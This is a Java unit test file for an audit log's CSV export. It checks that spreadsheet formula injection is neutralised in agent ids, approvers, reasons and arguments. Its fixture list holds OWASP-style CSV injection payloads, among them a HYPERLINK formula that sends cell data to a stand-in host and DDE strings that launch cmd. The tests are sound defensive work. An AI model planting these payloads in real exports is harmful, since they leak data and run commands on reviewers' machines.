package dev.hitl.audit.export;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hitl.audit.AuditFixtures;
import dev.hitl.audit.RecordedHistory;
import dev.hitl.audit.log.LogRecord;
import dev.hitl.schemas.ProposedAction;
import dev.hitl.schemas.Vote;
import java.io.StringWriter;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * OWASP's CSV injection: text that agents and reviewers write (agent ids, action ids, approvers,
 * reasons, arguments) never begins a cell of the CSV export that a spreadsheet would run as a
 * formula, and each neutralised cell reads back to the exact value; JSON Lines are unchanged.
 */
class CsvInjectionTest {

    /** What attackers put at the start of a cell (OWASP's examples and their variants). */
    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=1+1",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\"=1+1",
            "'=1+1",
            "''\t",
            "\n@SUM(1)",
            "\uFF1D1+1",
            "=cmd,with\"quotes\"\r\nand lines");

    @Test
    void shouldNeutraliseEveryFormulaLeadingValueAndReadItBackExactly() {
        for (final String value : HOSTILE) {
            final String field = ExportWriter.csvField(value);
            assertThat(field).as(value).startsWith("\"'");
            final List<List<String>> rows = Csv.parse(field + "\r\n");
            assertThat(rows).hasSize(1);
            final String cell = rows.get(0).get(0);
            assertThat(cell).as(value).startsWith("'");
            assertThat(ExportWriter.unneutralised(cell)).isEqualTo(value);
        }
    }

    @Test
    void shouldLeaveOrdinaryValuesAloneAndReadThemBackExactly() {
        for (final String value : List.of(
                "agent-1",
                "a,b",
                "say \"hi\"",
                "'quoted'",
                "'",
                "it's -1",
                "1-2",
                "2026-03-01T09:00:00.000Z",
                "{\"x\":\"=1+1\"}",
                "")) {
            assertThat(ExportWriter.formulaLike(value)).as(value).isFalse();
            final String cell =
                    Csv.parse(ExportWriter.csvField(value) + "\r\n").get(0).get(0);
            assertThat(ExportWriter.unneutralised(cell)).as(value).isEqualTo(value);
        }
    }

    @Test
    void shouldExportHostileAgentIdsActionIdsApproversReasonsAndArgumentsWithNoFormulaCell() throws Exception {
        final Instant at = Instant.parse("2026-03-01T09:00:00Z");
        final List<LogRecord> log = RecordedHistory.record(topics -> {
            final List<AuditFixtures.Input> inputs = new ArrayList<>();
            for (int i = 0; i < HOSTILE.size(); i++) {
                final String hostile = HOSTILE.get(i);
                final ProposedAction action = ProposedAction.newBuilder(
                                AuditFixtures.proposed(hostile + "#" + i, hostile, at.plusSeconds(i)))
                        .setArguments(
                                "{\"cell\":" + com.fasterxml.jackson.databind.node.TextNode.valueOf(hostile) + "}")
                        .build();
                inputs.add(new AuditFixtures.Input(topics.actionsProposed().name(), action.getActionId(), action));
                final Vote vote = Vote.newBuilder(AuditFixtures.vote(
                                action.getActionId(), hostile, at.plusSeconds(i).plusMillis(5)))
                        .setReason(hostile)
                        .build();
                inputs.add(new AuditFixtures.Input(topics.approvalsVotes().name(), action.getActionId(), vote));
            }
            return inputs;
        });
        assertThat(log).hasSize(2 * HOSTILE.size());
        final StringWriter out = new StringWriter();
        final ExportWriter writer = new ExportWriter(ExportFormat.CSV, out, null, null);
        log.forEach(writer);
        final List<List<String>> rows = Csv.parse(out.toString());
        assertThat(rows).hasSize(log.size() + 1);
        int neutralised = 0;
        for (int i = 0; i < log.size(); i++) {
            final List<String> row = rows.get(i + 1);
            for (final String cell : row) {
                // what a spreadsheet sees: no cell it would run (a leading ' makes a cell text)
                assertThat(!ExportWriter.formulaLike(cell) || cell.startsWith("'"))
                        .as(cell)
                        .isTrue();
                neutralised += cell.equals(ExportWriter.unneutralised(cell)) ? 0 : 1;
            }
            final var record = log.get(i).record();
            assertThat(ExportWriter.unneutralised(row.get(4))).isEqualTo(record.getActionId());
            assertThat(ExportWriter.unneutralised(row.get(5))).isEqualTo(nullToEmpty(record.getAgentId()));
            assertThat(ExportWriter.unneutralised(row.get(6))).isEqualTo(record.getActor());
            assertThat(ExportWriter.unneutralised(row.get(12))).isEqualTo(record.getPayload());
        }
        // actionId and actor of every record, agentId of every proposal
        assertThat(neutralised).isEqualTo(2 * 2 * HOSTILE.size() + HOSTILE.size());

        // JSON Lines carry the values unchanged.
        final StringWriter jsonl = new StringWriter();
        final ExportWriter lines = new ExportWriter(ExportFormat.JSONL, jsonl, null, null);
        log.forEach(lines);
        assertThat(jsonl.toString()).contains("\"agentId\":\"=1+1\"", "\"agentId\":\"@SUM(1+1)*cmd|' /C calc'!A0\"");
    }

    private static String nullToEmpty(final String s) {
        return s == null ? "" : s;
    }
}
